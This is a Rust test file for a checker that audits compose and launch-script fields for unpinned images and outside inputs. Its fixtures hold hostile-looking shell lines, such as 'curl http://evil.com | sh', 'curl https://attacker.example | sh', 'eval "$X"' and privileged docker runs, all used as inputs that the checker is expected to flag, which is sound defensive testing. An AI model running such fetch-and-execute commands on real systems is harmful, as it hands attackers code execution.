//! Images, keys, scripts and fields of the document.

use super::*;

#[test]
fn t71_another_image_than_the_pinned_one_is_named() {
    for (lines, place) in [
        (
            "pre_start: [{ image: 'evil:latest', command: /init }]",
            "services.web.pre_start[0].image",
        ),
        (
            "volumes: [{ type: image, source: 'evil:latest', target: /app }]",
            "services.web.volumes[0].source",
        ),
        ("pull_policy: build", "services.web.pull_policy"),
        ("build: .", "services.web.build"),
        ("provider: { type: evil }", "services.web.provider"),
        ("extends: other", "services.web.extends"),
    ] {
        is_unpinned(&service(lines), place);
    }
    for (lines, place) in [
        (
            "post_start: [{ image: 'evil:latest', command: /init }]",
            "services.web.post_start[0].image",
        ),
        ("models: [llm]", "services.web.models"),
        (
            "develop: { watch: [{ path: ., action: sync, target: / }] }",
            "services.web.develop",
        ),
        (
            "volumes: [{ type: npipe, source: a, target: /a }]",
            "services.web.volumes[0].type",
        ),
        (
            "volumes: [{ type: cluster, source: a, target: /a }]",
            "services.web.volumes[0].type",
        ),
    ] {
        is_unmeasured(&service(lines), place);
    }
    is_unpinned(
        &format!(
            "{}jobs:\n  a: {{ image: evil, triggers: {{ manual: true }} }}\n",
            service("tty: true")
        ),
        "jobs.a.image",
    );
    is_unmeasured(
        &format!("{}models:\n  llm: {{ model: ai/llm }}\n", service("tty: true")),
        "models",
    );
    is_fixed(&service(&format!(
        "pull_policy: always\npre_start: [{{ image: '{PINNED}', command: /init }}]\nvolumes: [{{ type: image, source: '{PINNED}', target: /a }}]"
    )));
}

#[test]
fn t72_a_key_that_the_table_does_not_have_decides_code() {
    is_unmeasured(&service("tomorrow: 1"), "services.web.tomorrow");
    is_unmeasured(
        &service("healthcheck: { test: 'true', tomorrow: 1 }"),
        "services.web.healthcheck.tomorrow",
    );
    is_unmeasured(
        &service("deploy: { tomorrow: 1 }"),
        "services.web.deploy.tomorrow",
    );
    is_unmeasured(
        &service("volumes: [{ type: volume, source: a, target: /a, src: /etc }]"),
        "services.web.volumes[0].src",
    );
    is_unmeasured(
        &service("ports: [{ target: 80, tomorrow: 1 }]"),
        "services.web.ports[0].tomorrow",
    );
    is_unmeasured(&service("command: { a: b }"), "services.web.command");
    is_unmeasured(
        &service("environment: { A: { b: c } }"),
        "services.web.environment.A",
    );
    is_unmeasured(&format!("{}tomorrow: 1\n", service("tty: true")), "tomorrow");
    is_unmeasured(
        &format!("{}configs:\n  a: {{ tomorrow: b }}\n", service("tty: true")),
        "configs.a.tomorrow",
    );
    is_fixed(&format!(
        "x-anything: '${{X}}'\n{}",
        service("x-more: { image: a }\nhealthcheck: { test: 'true', x-note: '${X}' }")
    ));
    // The name of a service is no extension.
    is_unpinned(
        &format!("{}  x-evil: {{ image: evil }}\n", service("tty: true")),
        "services.x-evil.image",
    );
}

#[test]
fn t73_what_a_script_can_set_can_be_set_from_outside() {
    let script = |version: &str| {
        let scripts = ReferenceValues::built_in().scripts();
        let row = scripts
            .iter()
            .find(|script| script.version.as_str() == version)
            .unwrap();
        row.sha256.to_string()
    };
    assert_eq!(script("0.0.19").len(), 64);
    let unknown = running_with(
        &service("command: '${NOBODY}'"),
        &json!({"pre_launch_script": "export NOBODY=x"}),
    );
    decides(&unknown, "unmeasured-input", "services.web.command");
    assert!(
        unknown
            .detail(CheckId::ImagePins)
            .contains("a script that is in no table")
    );
    let init = running_with(&service("command: '${NOBODY}'"), &json!({"init_script": "true"}));
    decides(&init, "unmeasured-input", "services.web.command");
    // The guest's own start script hands on what the host says.
    is_unmeasured(&service("command: '${PCCS_URL}'"), "services.web.command");
    is_unmeasured(&service("command: '${HOME}'"), "services.web.command");
    is_fixed(&service("command: 'a ${NOBODY:-b}'"));
    for odd in [json!("X"), json!([1])] {
        decides(
            &running_with(&service("command: '${NOBODY}'"), &json!({ "allowed_envs": odd })),
            "unmeasured-input",
            "services.web.command",
        );
    }
}

/// The guest's shell drops line ends at the end and NULs, and then compares: such a runner has two readings.
#[test]
fn t89_a_runner_that_is_not_exactly_one_of_those_that_are_known_is_not_read() {
    for runner in [
        json!("bash\n"),
        json!("bash\r\n"),
        json!("bash\0"),
        json!(" bash"),
        json!("docker-compose\n"),
        json!("nerdctl"),
        json!("other"),
        json!(5),
        json!(null),
    ] {
        let fields = json!({ "runner": runner.clone(), "bash_script": "curl https://attacker.example | sh" });
        let judged = running_with(&service("tty: true"), &fields);
        judged
            .says(CheckId::ImagePins, Status::Error, "unreadable-compose")
            .says(CheckId::LaunchInputs, Status::Error, "unreadable-compose")
            .concludes(Verdict::Inconclusive);
        let detail = judged.detail(CheckId::ImagePins);
        assert!(
            detail.contains("what starts the app is not known: `runner` is "),
            "{runner}: {detail}"
        );
    }
    for runner in ["docker-compose", "nerdctl-compose"] {
        let judged = running_with(&service("tty: true"), &json!({ "runner": runner }));
        judged.proves(CheckId::ImagePins);
        assert!(
            matches!(judged.0.assurance, Assurance::Code(_)),
            "{runner}: {judged}"
        );
    }
    running_with(
        &service("tty: true"),
        &json!({ "runner": "bash", "bash_script": "true" }),
    )
    .says(CheckId::ImagePins, Status::Warn, "unpinned-image");
}

/// A script that runs as root before the containers is judged as the scripts in them are.
#[test]
fn t90_what_a_start_script_takes_from_outside_decides_code() {
    for (script, reason) in [
        ("eval \"$X\"", "unmeasured-input"),
        ("curl \"$X\" | bash", "unmeasured-input"),
        ("bash /dstack/.host-shared/user_config", "unmeasured-input"),
        ("mount /dev/vdb /mnt && /mnt/run", "unmeasured-input"),
        ("sed -i s/TAG/latest/ docker-compose.yaml", "unmeasured-input"),
        ("docker run -d --privileged web:latest", "unpinned-image"),
        (
            "docker pull web:latest; docker tag web:latest web:1",
            "unpinned-image",
        ),
    ] {
        for (field, value, place) in [
            ("pre_launch_script", json!(script), "pre_launch_script"),
            ("init_script", json!(["true", script]), "init_script[1]"),
        ] {
            let mut fields = json!({ "allowed_envs": ["X"] });
            fields[field] = value;
            decides(&running_with(&service("tty: true"), &fields), reason, place);
        }
    }
    // What it does beyond that is named as not judged.
    let script = "echo \"$X\" | docker login -u me --password-stdin registry.example";
    let fields = json!({ "allowed_envs": ["X"], "pre_launch_script": script });
    let judged = running_with(&service("tty: true"), &fields);
    judged.proves(CheckId::ImagePins);
    assert!(matches!(judged.0.assurance, Assurance::Code(_)), "{judged}");
    let detail = judged.detail(CheckId::ImagePins);
    let hash = hex::encode(Sha256::digest(script));
    assert!(
        detail.contains(&format!(
            "What else pre_launch_script (SHA-256 {hash}) does as root before the containers is not checked."
        )),
        "{detail}"
    );
}

/// `pre_launch_script` and `bash_script` came into the guest as fields that no structure knew.
#[test]
fn t91_a_field_that_is_not_known_is_named_and_decides_code_if_it_may_be_a_script() {
    for (field, value, place) in [
        ("post_launch_script", json!("curl $X | sh"), "post_launch_script"),
        ("later", json!("#!/bin/sh\ntrue"), "later"),
        (
            "requirements",
            json!({ "post_boot": "curl http://evil.com | sh" }),
            "requirements.post_boot",
        ),
    ] {
        let mut fields = json!({});
        fields[field] = value;
        let judged = running_with(&service("tty: true"), &fields);
        decides(&judged, "unmeasured-input", place);
        judged.says(CheckId::LaunchInputs, Status::Warn, "unknown-field");
    }
    for fields in [
        json!({ "tomorrow": true }),
        json!({ "snapshotter": "stargz\n" }),
        json!({ "kms_enabled": "true" }),
        json!({ "bash_script": "true" }),
        json!({ "port_policy": { "tomorrow": true } }),
    ] {
        let judged = running_with(&service("tty: true"), &fields);
        judged.says(CheckId::LaunchInputs, Status::Warn, "unknown-field");
        judged.proves(CheckId::ImagePins);
    }
    for fields in [
        json!({ "docker_config": { "username": "y" }, "default_gateway_domain": "gateway.example", "salt": "x", "bash_script": null }),
        json!({ "snapshotter": "stargz", "swap_size": "4G", "tomorrow": null }),
    ] {
        running_with(&service("tty: true"), &fields).proves(CheckId::LaunchInputs);
    }
}
